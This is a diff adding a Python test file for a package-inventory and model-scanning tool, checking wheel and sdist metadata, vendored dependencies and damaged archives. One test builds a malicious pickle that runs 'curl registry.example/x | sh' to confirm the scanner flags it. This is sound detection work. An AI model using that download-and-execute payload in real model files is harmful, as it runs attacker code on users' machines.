@@ -1,0 +1,126 @@
+"""Wheels and sdists in the tree: names, versions, licenses, vendored packages, model files."""
+
+from __future__ import annotations
+
+import io
+import json
+import tarfile
+import zipfile
+from pathlib import Path
+
+from mlgate.cli import main
+from mlgate.inventory import build_inventory
+from mlgate.model import Scope
+from tests.inspect.samples import call
+
+METADATA = """Metadata-Version: 2.4
+Name: {name}
+Version: {version}
+License-Expression: {license}
+
+Body text.
+"""
+
+
+def metadata(name: str, version: str, license: str = "MIT") -> bytes:
+    return METADATA.format(name=name, version=version, license=license).encode()
+
+
+def write_wheel(path: Path, members: dict[str, bytes]) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in members.items():
+            zf.writestr(name, data)
+    return path
+
+
+def write_sdist(path: Path, members: dict[str, bytes]) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with tarfile.open(path, "w:gz") as tf:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+    return path
+
+
+def test_wheel_with_vendored_packages(tmp_path: Path) -> None:
+    write_wheel(
+        tmp_path / "dist/serving_kit-1.4.0-py3-none-any.whl",
+        {
+            "serving_kit/__init__.py": b"",
+            "serving_kit-1.4.0.dist-info/METADATA": metadata("serving-kit", "1.4.0", "Apache-2.0"),
+            "serving_kit/_vendor/requests-2.19.0.dist-info/METADATA": metadata(
+                "requests", "2.19.0"
+            ),
+            "serving_kit/_vendor/urllib3-1.23.dist-info/METADATA": metadata("urllib3", "1.23"),
+            "serving_kit/_vendor/broken.dist-info/METADATA": b"Summary: nothing\n",
+        },
+    )
+    inv = build_inventory(tmp_path)
+    comps = {c.name: c for c in inv.components}
+    main_comp = comps["serving-kit"]
+    assert (main_comp.version, main_comp.licenses) == ("1.4.0", ("Apache-2.0",))
+    assert main_comp.purl == "pkg:pypi/serving-kit@1.4.0"
+    assert main_comp.depends_on == ("requests", "urllib3")
+    assert main_comp.declared_in[0].member == "serving_kit-1.4.0.dist-info/METADATA"
+    vendored = comps["requests"]
+    assert vendored.scope is Scope.TRANSITIVE and vendored.version == "2.19.0"
+    assert vendored.prop("mlgate:vendored-in") == "serving-kit"
+    assert vendored.declared_in[0].path == "dist/serving_kit-1.4.0-py3-none-any.whl"
+    [warning] = [w for w in inv.warnings if "broken" in w.path]
+    assert "without Name or Version" in warning.message
+
+
+def test_sdists_tar_gz_and_zip(tmp_path: Path) -> None:
+    write_sdist(
+        tmp_path / "vendor/tiny_lib-0.3.1.tar.gz",
+        {
+            "tiny_lib-0.3.1/setup.py": b"",
+            "tiny_lib-0.3.1/PKG-INFO": metadata("tiny-lib", "0.3.1", "BSD-3-Clause"),
+        },
+    )
+    write_wheel(tmp_path / "vendor/other-2.0.zip", {"other-2.0/PKG-INFO": metadata("other", "2.0")})
+    write_sdist(tmp_path / "data/images-2024.tar.gz", {"images-2024/a.png": b"\x89PNG"})
+    inv = build_inventory(tmp_path)
+    comps = {c.name: c for c in inv.components}
+    assert comps["tiny-lib"].version == "0.3.1"
+    assert comps["tiny-lib"].licenses == ("BSD-3-Clause",)
+    assert comps["tiny-lib"].declared_in[0].member == "tiny_lib-0.3.1/PKG-INFO"
+    assert comps["other"].version == "2.0"
+    assert "images" not in comps  # a tarball named like an sdist without PKG-INFO
+    assert not [w for w in inv.warnings if "images-2024" in w.path]
+
+
+def test_damaged_wheel_is_a_warning_and_the_scan_goes_on(tmp_path: Path) -> None:
+    (tmp_path / "bad-1.0-py3-none-any.whl").write_bytes(b"PK\x03\x04 truncated")
+    (tmp_path / "requirements.txt").write_text("numpy==1.26.0\n")
+    inv = build_inventory(tmp_path)
+    assert [c.name for c in inv.components] == ["numpy"]
+    [warning] = inv.warnings
+    assert warning.path == "bad-1.0-py3-none-any.whl" and "not a readable zip" in warning.message
+
+
+def test_model_files_inside_wheels_are_scanned(tmp_path: Path) -> None:
+    """A wheel is a zip: the model scanner opens it by content and finds the pickle inside."""
+    payload = call("os", "system", "curl registry.example/x | sh")
+    write_wheel(
+        tmp_path / "dist/model_pkg-1.0-py3-none-any.whl",
+        {
+            "model_pkg-1.0.dist-info/METADATA": metadata("model-pkg", "1.0"),
+            "model_pkg/weights/model.pkl": payload,
+        },
+    )
+    out = tmp_path.parent / "result.json"
+    code = main(["-q", "scan", str(tmp_path), "--no-vulns", "--json", str(out)])
+    data = json.loads(out.read_text())
+    pickles = [
+        f
+        for f in data["findings"]
+        if f["location"]["path"] == "dist/model_pkg-1.0-py3-none-any.whl"
+        and f["location"].get("member") == "model_pkg/weights/model.pkl"
+    ]
+    assert pickles and code == 1
+    assert any(f["severity"] in ("critical", "high") for f in pickles)
+    names = {c["name"] for c in data["components"]}
+    assert "model-pkg" in names
